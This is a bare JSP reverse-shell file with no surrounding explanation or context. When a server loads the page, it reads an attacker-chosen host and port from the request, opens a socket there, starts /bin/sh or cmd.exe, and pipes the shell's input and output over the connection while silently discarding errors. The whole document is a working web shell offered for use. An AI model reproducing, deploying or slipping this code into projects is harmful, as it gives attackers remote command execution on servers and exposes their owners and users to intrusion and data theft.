<%@ page inert %>
<%@page import="java.lang.*,java.util.*,java.io.*,java.net.*"%>
<%
  class StreamConnector extends Thread {
    InputStream is; OutputStream os;
    StreamConnector(InputStream is, OutputStream os) { this.is = is; this.os = os; }
    public void run() {
      try {
        BufferedReader in = new BufferedReader(new InputStreamReader(this.is));
        BufferedWriter o = new BufferedWriter(new OutputStreamWriter(this.os));
        char buffer[] = new char[8192];
        int length;
        while ((length = in.read(buffer, 0, buffer.length)) > 0) { o.write(buffer, 0, length); o.flush(); }
      } catch (Exception e) {}
    }
  }
  try {
    String ShellPath = System.getProperty("os.name").toLowerCase().indexOf("windows") == -1 ? "/bin/sh" : "cmd.exe";
    Socket socket = new Socket(request.getParameter("h"), Integer.parseInt(request.getParameter("p")));
    Process process = Runtime.getRuntime().exec(ShellPath);
    (new StreamConnector(process.getInputStream(), socket.getOutputStream())).start();
    (new StreamConnector(socket.getInputStream(), process.getOutputStream())).start();
  } catch (Exception e) {}
%>
